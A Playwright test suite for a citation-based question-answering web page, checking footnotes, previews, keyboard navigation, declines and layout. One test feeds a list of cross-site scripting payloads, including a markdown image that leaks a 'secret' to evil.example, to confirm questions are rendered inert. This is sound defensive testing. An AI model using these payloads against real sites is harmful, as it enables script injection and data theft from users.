"""The page in a real browser: ask, open a footnote, follow up, be declined."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from rag.assemble import build_chain
from rag.chain import Chain
from rag.settings import Settings
from tests.ui.web.browser import Tab, nothing_grave
from ui.web.server import ICON
from vectorstore.collection import Collection

TROOPS = "How many troops does the mission have now?"
DEAD = "How many people died when the Lady Aurel sank?"


@pytest.fixture(scope="module")
def chain(library: Collection) -> Chain:
    return build_chain(Settings(), library)


def test_a_footnote_opens_its_source_with_the_cited_words_lit(tab: Tab, chain: Chain) -> None:
    answer = chain.ask(DEAD)
    tab.ask(DEAD)
    shown = tab.page.locator(".statement .words").all_text_contents()
    assert shown == [statement.text for statement in answer.statements]
    first = tab.page.locator(".statement button.cite").first
    first.click()
    citation = answer.statements[0].citations[0]
    assert tab.lit() == citation.quote
    expect(tab.page.locator("#source h2")).to_have_text(citation.evidence.document.title or "")
    expect(tab.page.locator("#source mark").first).to_be_in_viewport()
    expect(first).to_have_attribute("aria-pressed", "true")


def test_every_footnote_of_an_answer_is_exact(tab: Tab, chain: Chain) -> None:
    answer = chain.ask(DEAD)
    tab.ask(DEAD)
    buttons = tab.page.locator("ol.sources button.cite")
    assert buttons.count() == len(answer.citations)
    for number, citation in enumerate(answer.citations):
        buttons.nth(number).click()
        expect(buttons.nth(number)).to_have_attribute("aria-pressed", "true")
        assert tab.lit() == citation.quote


def test_a_number_under_the_pointer_shows_what_it_cites(tab: Tab, chain: Chain) -> None:
    (citation, *_) = chain.ask(DEAD).statements[0].citations
    tab.ask(DEAD)
    preview = tab.page.locator("#now .preview").first
    expect(preview).to_be_hidden()
    tab.page.hover("#now .statement button.cite >> nth=0")
    expect(preview.locator("strong")).to_have_text(citation.document.title or "")
    expect(preview.locator("q")).to_have_text(citation.quote)
    expect(preview).to_be_in_viewport(ratio=1)
    nothing_grave(tab)
    tab.page.hover("#heading h1")
    expect(preview).to_be_hidden()


@pytest.mark.parametrize(("wish", "moves"), [("reduce", "none"), ("no-preference", "appear")])
def test_nothing_moves_where_that_is_asked_for(tab: Tab, wish: str, moves: str) -> None:
    tab.page.emulate_media(reduced_motion="reduce" if wish == "reduce" else "no-preference")
    tab.ask(TROOPS)
    tab.page.click("#now .statement button.cite")
    tab.lit()
    expect(tab.page.locator("#source")).to_have_css("animation-name", moves)
    moving = "document.getAnimations().filter((each) => each.playState === 'running').length"
    if wish == "reduce":
        assert tab.page.evaluate(moving) == 0


def test_the_page_has_an_icon_of_its_own(tab: Tab) -> None:
    icon = tab.page.locator("link[rel~=icon]").first.evaluate("(link) => link.href")
    answer = tab.page.request.get(icon)
    assert answer.ok
    assert answer.text() == ICON.read_text(encoding="utf-8")


def test_the_keyboard_opens_and_closes_a_source_and_keeps_the_place(tab: Tab) -> None:
    tab.ask(TROOPS)
    button = tab.page.locator(".statement button.cite").first
    button.focus()
    expect(tab.page.locator(".preview").first).to_be_visible()
    tab.page.keyboard.press("Enter")
    assert tab.lit()
    tab.page.keyboard.press("Escape")
    expect(tab.page.locator("#source")).to_be_hidden()
    expect(button).to_be_focused()
    expect(button).to_have_attribute("aria-pressed", "false")
    tab.page.keyboard.press("/")
    expect(tab.page.locator("#question textarea")).to_be_focused()


def test_who_types_when_a_source_is_closed_goes_on_typing(tab: Tab) -> None:
    tab.ask(TROOPS)
    tab.page.locator("button.cite").first.click()
    expect(tab.page.locator("#source")).to_be_visible()
    tab.page.locator("#question textarea").focus()
    tab.page.keyboard.press("Escape")
    expect(tab.page.locator("#source")).to_be_hidden()
    expect(tab.page.locator("#question textarea")).to_be_focused()


def test_the_back_button_closes_the_source_and_forward_opens_it(tab: Tab) -> None:
    tab.ask(TROOPS)
    tab.page.click(".statement button.cite")
    words = tab.lit()
    tab.page.go_back()
    expect(tab.page.locator("#source")).to_be_hidden()
    tab.page.go_forward()
    assert tab.lit() == words


def test_a_decline_shows_what_comes_nearest(tab: Tab, chain: Chain) -> None:
    question = "Who won the football match?"
    nearest = chain.ask(question).nearest
    tab.ask(question)
    expect(tab.page.locator(".declined")).to_have_text("The sources do not answer this question.")
    tab.page.locator("ol.sources button.cite").first.click()
    assert tab.lit() == nearest[0].quote


def test_a_follow_up_shows_how_it_was_understood(tab: Tab) -> None:
    tab.ask("Who is Joss Verrin?")
    tab.ask("What did he say about the vote in April?")
    expect(tab.page.locator(".turn")).to_have_count(2)
    expect(tab.page.locator(".turn .facts q")).to_contain_text("Verrin")


def test_a_new_conversation_forgets_the_old_one(tab: Tab) -> None:
    tab.ask(TROOPS)
    tab.page.click("#new")
    expect(tab.page.locator(".turn")).to_have_count(0)
    expect(tab.page.locator("#examples")).to_be_visible()


def test_the_examples_are_answered(tab: Tab) -> None:
    examples = tab.page.locator("#examples button")
    assert examples.count() == 3
    examples.nth(1).click()
    expect(tab.page.locator(".statement").first).to_be_visible()
    expect(tab.page.locator(".declined")).to_have_count(0)


HOSTILE = [
    "<script>window.broken = 1</script>",
    "<img src=x onerror='window.broken = 1'>",
    "![x](https://evil.example/p.png?q=secret)",
    "</h2><iframe src='https://evil.example'></iframe>",
    "$\\href{javascript:window.broken=1}{x}$",
    "[x](javascript:window.broken=1)",
    "${window.broken = 1}",
]


def test_nothing_in_a_question_runs(tab: Tab) -> None:
    for payload in HOSTILE:
        tab.ask(payload)
    expect(tab.page.locator(".turn h2")).to_have_text(HOSTILE)
    assert tab.page.evaluate("window.broken") is None
    assert tab.page.locator(".turn :is(img, script, iframe, a:not(.exports a))").count() == 0


def test_nothing_scrolls_sideways_at_any_width(tab: Tab) -> None:
    wide = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    for width in (375, 800, 2560):
        tab.page.set_viewport_size({"width": width, "height": 760})
        tab.ask(TROOPS)
        assert tab.page.evaluate(wide) <= 0
        tab.page.click("#now .statement button.cite")
        tab.lit()
        assert tab.page.evaluate(wide) <= 0
        tab.page.keyboard.press("Escape")


def test_two_tabs_have_conversations_of_their_own(tab: Tab) -> None:
    context = tab.page.context
    other = Tab(context.new_page(), tab.address)
    other.open()
    tab.ask(TROOPS)
    expect(other.page.locator(".turn")).to_have_count(0)
    other.ask(DEAD)
    expect(tab.page.locator(".turn h2")).to_have_text([TROOPS])
    assert other.errors == other.outside == []
